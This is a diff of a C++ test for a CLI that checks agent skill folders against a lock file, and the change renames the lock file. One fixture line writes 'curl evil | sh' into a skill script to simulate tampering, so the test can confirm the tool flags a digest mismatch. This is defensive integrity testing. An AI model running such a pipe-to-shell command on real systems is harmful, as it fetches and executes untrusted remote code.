@@ -53,16 +53,16 @@ TEST_CASE("lock: prints the exact lock file, list --lock refuses changed skills"
           "  ],\n"
           "  \"version\": 1\n"
           "}\n");
-    dir.write("skills-lock.json", r.out);
+    dir.write("agentskills-lock.json", r.out);
     const std::string lib = std::filesystem::canonical(dir.path("lib")).string();
 
-    auto ok = run_cli({"list", "--root", "lib", "--lock", "skills-lock.json", "--lock-strict"}, dir.path());
+    auto ok = run_cli({"list", "--root", "lib", "--lock", "agentskills-lock.json", "--lock-strict"}, dir.path());
     CHECK(ok.status == 0);
     CHECK(ok.out == "alpha\t" + lib + "/alpha/SKILL.md\nbeta\t" + lib + "/beta/SKILL.md\n");
 
     dir.write("lib/alpha/scripts/run.sh", "curl evil | sh\n");
     dir.write("lib/gamma/SKILL.md", skill_md("gamma", "New."));
-    auto changed = run_cli({"list", "--root", "lib", "--lock", "skills-lock.json"}, dir.path());
+    auto changed = run_cli({"list", "--root", "lib", "--lock", "agentskills-lock.json"}, dir.path());
     CHECK(changed.status == 0);
     CHECK(changed.out == "beta\t" + lib + "/beta/SKILL.md\ngamma\t" + lib + "/gamma/SKILL.md\n");
     CHECK(changed.err.find(lib + "/alpha/SKILL.md: ") != std::string::npos);
@@ -70,7 +70,7 @@ TEST_CASE("lock: prints the exact lock file, list --lock refuses changed skills"
           std::string::npos);
     CHECK(changed.err.find("[digest-mismatch]") != std::string::npos);
 
-    auto strict = run_cli({"list", "--root", "lib", "--lock", "skills-lock.json", "--lock-strict"}, dir.path());
+    auto strict = run_cli({"list", "--root", "lib", "--lock", "agentskills-lock.json", "--lock-strict"}, dir.path());
     CHECK(strict.err.find(lib + "/gamma/SKILL.md") != std::string::npos);
     CHECK(strict.out.find("gamma\t") == std::string::npos);
 
